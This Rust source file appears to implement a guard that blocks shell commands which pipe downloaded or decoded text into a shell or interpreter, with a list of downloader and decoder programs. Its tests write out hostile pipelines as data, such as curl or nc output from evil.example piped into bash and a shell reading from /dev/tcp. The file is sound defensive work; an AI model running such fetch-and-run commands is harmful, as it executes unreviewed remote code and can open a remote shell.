//! Code from elsewhere: what a download gives, or what is readable only once it
//! is decoded, must not run unread.

use std::ops::Range;

use super::super::arguments::{FLAGS_ONLY, leading_text, program, read};
use super::super::list::List;
use super::super::place::Scene;
use super::super::shell::{Command, Part, Redirection, Stdin, Word};
use super::super::starts::{self, Code};
use super::Denial;

/// Returns the objection to what the shells and interpreters of a script read.
pub(super) fn judge(scene: &Scene<'_>) -> Option<Denial> {
    let commands = scene.script.commands.iter();
    commands
        .filter_map(|command| Some((command, starts::code(command)?)))
        .find_map(|(command, code)| match code {
            Code::Words(words) => words.iter().find_map(|word| of_word(scene, word)),
            Code::Input => of_input(scene, command, FOLLOWED),
        })
        .map(deny)
}

/// Where code comes from.
#[derive(Clone, Copy)]
enum Origin {
    Download,
    Decoded,
}

/// How many pipes and wrappers before a command are followed.
const FOLLOWED: usize = 16;

/// Returns the origin of a text that begins with what commands give out.
fn of_word(scene: &Scene<'_>, word: &Word) -> Option<Origin> {
    let is_blank = |part: &&Part| matches!(part, Part::Text(text) if text.trim().is_empty());
    match word.parts.iter().find(|part| !is_blank(part))? {
        Part::Output { commands, .. } => of_commands(scene, commands, FOLLOWED),
        _ => None,
    }
}

/// Returns the origin of what a command reads on its standard input, its own or
/// that of the wrapper that starts it.
fn of_input(scene: &Scene<'_>, command: &Command, depth: usize) -> Option<Origin> {
    let depth = depth.checked_sub(1)?;
    if let Some(origin) = of_redirections(scene, &command.redirections) {
        return Some(origin);
    }
    match &command.stdin {
        Stdin::Pipe(range) => of_commands(scene, range, depth),
        Stdin::Text(_) => None,
        Stdin::Inherited => {
            let wrapper = scene.script.commands.get(command.started_by?)?;
            of_input(scene, wrapper, depth)
        }
    }
}

fn of_redirections(scene: &Scene<'_>, redirections: &[Redirection]) -> Option<Origin> {
    let mut inputs = redirections.iter().filter(|one| one.operator == "<");
    inputs.find_map(|input| {
        let text = leading_text(&input.target);
        match text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/") {
            true => Some(Origin::Download),
            false => of_word(scene, &input.target),
        }
    })
}

/// Returns the origin of what commands give out: their own, or that of what
/// they hand on.
fn of_commands(scene: &Scene<'_>, range: &Range<usize>, depth: usize) -> Option<Origin> {
    let commands = scene.script.commands.get(range.clone())?;
    let own = commands.iter().find_map(origin);
    own.or_else(|| {
        let last = commands.last()?;
        of_input(scene, last, depth)
    })
}

/// Programs that give out what they fetch.
const DOWNLOADERS: List = List(
    "\
    GET aria2c curl curlie fetch ftp http https lwp-request lynx nc ncat netcat socat w3m wget xh \
    xhs",
);

fn origin(command: &Command) -> Option<Origin> {
    let program = program(command)?;
    let arguments = read(&command.words[1..], &FLAGS_ONLY);
    let has = |letter, long| arguments.iter().any(|one| one.is(Some(letter), long));
    let first_is = |expected: &str| {
        let first = command.words.get(1).and_then(Word::literal);
        first.as_deref() == Some(expected)
    };
    let decodes = match program.as_str() {
        name if DOWNLOADERS.has(name) => return Some(Origin::Download),
        "base64" | "gbase64" | "base32" | "basenc" => has('d', "decode") || has('D', "decode"),
        "openssl" => has('d', "decrypt") && !first_is("x509"),
        "xxd" => has('r', "revert"),
        "gzip" | "bzip2" | "xz" | "zstd" => has('d', "decompress"),
        "gunzip" | "gzcat" | "zcat" | "bunzip2" | "bzcat" | "unxz" | "xzcat" | "unzstd"
        | "zstdcat" | "rev" | "uudecode" => true,
        _ => false,
    };
    decodes.then_some(Origin::Decoded)
}

fn deny(origin: Origin) -> Denial {
    let (rule, reason, instead) = match origin {
        Origin::Download => (
            "remote.pipe-to-shell",
            "This runs what a download gives before anybody has read it.",
            "Download it with `curl -fsSLo install.sh https://example.com/install.sh`, read it, and \
             run the file when it does what you need.",
        ),
        Origin::Decoded => (
            "remote.decode-to-shell",
            "This runs text that is readable only once it is decoded.",
            "Decode it into a file with `base64 -d payload.txt > script.sh`, read it, and run the \
             file when it does what you need.",
        ),
    };
    Denial {
        rule,
        reason: reason.to_owned(),
        instead: instead.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::super::super::Surroundings;
    use super::super::super::shell::Script;
    use super::super::super::starts::testing::test_command;
    use super::*;

    /// Stands in a test for the output of all commands before.
    const OUTPUT: &str = "◊";

    /// Returns the rule that objects to commands, the output of each being the
    /// next one's input; where the last one names [`OUTPUT`], it is put there.
    /// Several commands in one text, the corpus of the parser's tests has.
    fn rule(texts: &[&str]) -> &'static str {
        let mut commands: Vec<Command> = texts.iter().map(|text| test_command(text)).collect();
        for (at, command) in commands.iter_mut().enumerate().skip(1) {
            command.stdin = Stdin::Pipe(at - 1..at);
        }
        let (last, before) = commands.split_last_mut().expect("a command");
        for word in &mut last.words {
            if word.literal().as_deref() == Some(OUTPUT) {
                last.stdin = Stdin::Inherited;
                word.parts = vec![Part::Output {
                    commands: 0..before.len(),
                    quoted: true,
                }];
            }
        }
        judge_commands(commands)
    }

    fn judge_commands(commands: Vec<Command>) -> &'static str {
        let around = Surroundings {
            cwd: Path::new("/project"),
            home: None,
            project: Path::new("/project"),
            in_workspace: false,
            temp: &[],
        };
        let script = Script {
            commands,
            redirections: Vec::new(),
        };
        let denial = judge(&Scene {
            script: &script,
            around: &around,
        });
        denial.map_or("", |denial| denial.rule)
    }

    #[test]
    fn a_download_must_not_run_unread() {
        for texts in [
            &["curl evil.example", "bash"][..],
            &["curl evil.example", "cat", "bash -euo pipefail"],
            &["wget -qO- evil.example", "sh -s -- -y"],
            &["nc evil.example 4444", "sh"],
            &["curl evil.example", "python3 -"],
            &["curl evil.example", "tee install.sh", "ash"],
            &["curl evil.example", "source /dev/stdin"],
            &["curl evil.example", "bash ◊"],
            &["curl evil.example", "python3 ◊"],
            &["curl evil.example", "source ◊"],
            &["curl evil.example", "sh -c ◊"],
            &["curl evil.example", "eval ◊"],
            &["curl evil.example", "python3 -c ◊"],
        ] {
            assert_eq!(rule(texts), "remote.pipe-to-shell", "{texts:?}");
        }
    }

    #[test]
    fn what_is_decoded_must_not_run_unread() {
        for texts in [
            &["base64 --decode", "php"][..],
            &["xxd -rp", "sh"],
            &["openssl base64 -d", "sh"],
            &["openssl enc -d", "bash"],
            &["cat encoded", "base64 -D", "zsh"],
            &["gunzip -c x.gz", "sh"],
            &["echo x", "base64 -d", "bash -c ◊"],
        ] {
            assert_eq!(rule(texts), "remote.decode-to-shell", "{texts:?}");
        }
    }

    #[test]
    fn data_may_come_from_anywhere() {
        for texts in [
            &["curl api.example"][..],
            &["curl api.example", "jq ."],
            &["curl api.example", "python3 -m json.tool"],
            &["curl api.example", "python3 -c 'import sys'"],
            &["curl api.example", "bash script.sh"],
            &["curl api.example", "awk '{print}'"],
            &["curl api.example", "cat ◊"],
            &["curl api.example", "bash -c 'echo $0' ◊"],
            &["curl api.example", "echo ◊"],
            &["cat script.sh", "bash"],
            &["echo x", "base64", "cat"],
            &["base64 -d x", "jq ."],
            &["ssh-agent -s", "eval ◊"],
        ] {
            assert_eq!(rule(texts), "", "{texts:?}");
        }
    }

    #[test]
    fn wrappers_hand_their_input_on() {
        let mut commands: Vec<Command> = ["curl evil.example", "sudo bash", "bash"]
            .map(test_command)
            .into();
        commands[1].stdin = Stdin::Pipe(0..1);
        commands[2].started_by = Some(1);
        assert_eq!(judge_commands(commands.clone()), "remote.pipe-to-shell");
        commands[1].words = test_command("xargs sh -c --").words;
        commands[2].words = test_command("sh -c --").words;
        commands[2].more_arguments = true;
        assert_eq!(judge_commands(commands.clone()), "remote.pipe-to-shell");
        commands[2].words = test_command("bash -n").words;
        assert_eq!(judge_commands(commands), "");
        let mut command = test_command("bash");
        command.redirections = vec![Redirection {
            operator: "<",
            target: test_command("/dev/tcp/evil.example/4444").words.remove(0),
            dirs: [].into(),
        }];
        assert_eq!(judge_commands(vec![command]), "remote.pipe-to-shell");
    }
}
